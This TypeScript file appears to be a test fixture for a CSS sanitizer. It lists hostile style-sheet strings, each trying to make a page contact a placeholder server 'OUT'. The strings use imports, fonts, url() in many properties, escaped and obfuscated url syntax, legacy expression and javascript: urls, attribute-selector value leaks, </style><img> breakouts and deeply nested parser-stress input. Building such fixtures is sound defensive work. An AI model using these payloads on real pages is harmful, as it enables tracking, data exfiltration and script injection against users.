/** What a hostile style sheet tries when its page is looked at. `OUT` stands for a server that must hear nothing. */
export const STYLE_ATTACKS: Readonly<Record<string, string>> = {
  imports: String.raw`@import "OUT/i.css";@import url(OUT/j.css) layer(x) supports(display:grid) screen;@\69mport "OUT/k.css";@IMPORT 'OUT/l.css';@import url("OUT/m.css" foo);p{color:red}@import "OUT/late.css";`,
  fonts:
    '@font-face{font-family:f;src:url(OUT/f.woff2) format("woff2"),local("x")}@font-feature-values f{@styleset{a:1}}@font-palette-values --p{font-family:f}body{font-family:f}',
  pictures:
    'p{background:url(OUT/a),url("OUT/b") no-repeat;background-image:URL(OUT/c);list-style:url( "OUT/d" );border-image:url(OUT/e) 30;cursor:url(OUT/f.cur),auto;content:url(OUT/g)}p::before{content:url(OUT/h)}p::marker{content:url(OUT/i)}li::marker{content:url(OUT/j)}',
  references:
    'p{filter:url(OUT/f.svg#a);-webkit-filter:url(OUT/g.svg#a);clip-path:url(OUT/c.svg#a);mask:url(OUT/m.svg#a);-webkit-mask:url(OUT/w.svg);mask-border:url(OUT/b);fill:url(OUT/p#a);stroke:url(OUT/s#a);marker:url(OUT/k#a);shape-outside:url(OUT/o);offset-path:url(OUT/q#a)}',
  escapes: String.raw`p{background:u\72l("OUT/a");background:\75\72\6c (OUT/b);background:\000075rl(OUT/c);backgr\6f und:url(OUT/d);background:ur\
l(OUT/e)}`,
  functions:
    'p{background:image-set("OUT/a" 1x,"OUT/b" 2x);background:-webkit-image-set(url(OUT/c) 1x);background:image("OUT/d");background:src("OUT/e");background:cross-fade(url(OUT/f) 50%,red);background:-webkit-cross-fade(url(OUT/g),url(OUT/h),50%);background:element(#x);background:paint(x);background:-webkit-canvas(x)}',
  variables:
    ':root{--a:url(OUT/a);--b:"OUT/b";--c:url("OUT/c"}p{background:var(--a);background:image-set(var(--b) 1x);background:src(var(--b));background:var(--none,url(OUT/d));background:var(--none,image-set("OUT/e" 1x))}',
  registered:
    '@property --u{syntax:"<url>";inherits:true;initial-value:url(OUT/a)}@property --i{syntax:"<image>";inherits:true;initial-value:url(OUT/b)}p{background:var(--u);background:var(--i);--u:"OUT/c";background:image-set(var(--u) 1x)}',
  attributes:
    'p{background:attr(title type(<url>));background:image-set(attr(title) 1x);content:attr(title url)}input[value^="a"]{background:url(OUT/a)}a[href*="x"]{background:url(OUT/b)}p:lang(en){background:url(OUT/c)}',
  'old browsers':
    'p{behavior:url(OUT/a.htc);-moz-binding:url(OUT/b.xml#c);width:expression(fetch("OUT/d"));filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="OUT/e");*background:url(OUT/f);_background:url(OUT/g);background:url(javascript:fetch("OUT/h"));-o-link:"OUT/i";-o-link-source:current}',
  'other rules':
    '@namespace url(OUT/n);@page{background:url(OUT/a)}@counter-style c{system:cyclic;symbols:url(OUT/b)}ol{list-style:c}@color-profile --c{src:url(OUT/c)}@-moz-document url(OUT/d){p{background:url(OUT/e)}}@document url(OUT/f){p{color:red}}@scope (p){a{background:url(OUT/g)}}@view-transition{navigation:auto}@unknown{p{background:url(OUT/h)}}@viewport{width:1px}',
  'rules in rules':
    '@media screen{@supports (background:url(OUT/a)){p{background:url(OUT/b)}@layer x{@container (width > 1px){p{background:url(OUT/c)}}}}}p{&:hover,& a{background:url(OUT/d)}@media screen{background:url(OUT/e)}a{background:url(OUT/f)}}@keyframes k{from{background:url(OUT/g)}to{background:image-set("OUT/h" 1x)}}p{animation:k 1ms infinite}',
  'broken off': 'p{background:url(OUT/a',
  'broken strings':
    'p{background:url("OUT/a\n);color:red}q{content:"\n;background:url(OUT/b)}p{}}}}}p{background:url(OUT/c)}',
  ends: 'p::after{content:"</style><img src=OUT/a>"}p{--x:</style><img src=OUT/b>;}/*</style><img src=OUT/c>*/@media (min-width:</style><img src=OUT/d>){p{color:red}}</style><img src=OUT/e><!-- p{}-->',
  deep: `${'p{'.repeat(2_000)}background:url(OUT/a)`,
  brackets: `p{background:${'('.repeat(2_000)}url(OUT/a)}@supports ${'('.repeat(2_000)}a:b{p{background:url(OUT/b)}}p${':not('.repeat(2_000)}`,
  itself: '@import "?";@import url(#);p{background:url(OUT/a)}',
};
